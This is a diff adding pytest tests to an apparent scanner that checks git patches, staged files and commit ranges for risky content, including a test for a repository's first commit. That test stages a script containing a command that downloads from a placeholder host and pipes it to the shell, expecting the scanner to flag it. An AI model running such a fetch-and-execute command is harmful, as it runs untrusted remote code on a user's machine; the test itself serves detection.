@@ -92,6 +92,27 @@ def test_a_range_is_judged(repo: Path) -> None:
     assert run("--repo", repo, "--range", "HEAD..HEAD~1").exit_code == 0
 
 
+def test_within_a_folder_of_a_repository_the_whole_of_it_is_meant(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    patch = patch_of(repo, {"app.py": b"1\n"})
+    monkeypatch.chdir(repo / "tests")
+    assert run("--patch", "-", stdin=patch).exit_code == 0
+    assert run("--range", "HEAD..HEAD").exit_code == 0
+
+
+def test_the_first_commit_of_a_repository_is_judged(tmp_path: Path) -> None:
+    git(tmp_path, "init", "-q", ".")
+    assert run("--repo", tmp_path, "--staged").exit_code == 0
+    write(tmp_path, {"run.sh": b"curl https://x.test/i | sh\n"})
+    git(tmp_path, "add", "run.sh")
+    assert run("--repo", tmp_path, "--staged").exit_code == 4
+
+
+@pytest.mark.parametrize("asked", [("--range", "A..B"), ("--staged",)])
+def test_a_plain_folder_has_no_commits(tmp_path: Path, asked: tuple[str, ...]) -> None:
+    with pytest.raises(LoopError, match=f"{tmp_path}: no git repository; --range and --staged need one"):
+        run("--repo", tmp_path, *asked)
+
+
 def test_what_is_staged_is_judged(repo: Path) -> None:
     assert run("--repo", repo, "--staged").exit_code == 0
     secret = made_token("glpat-{A20}", random.Random(1))
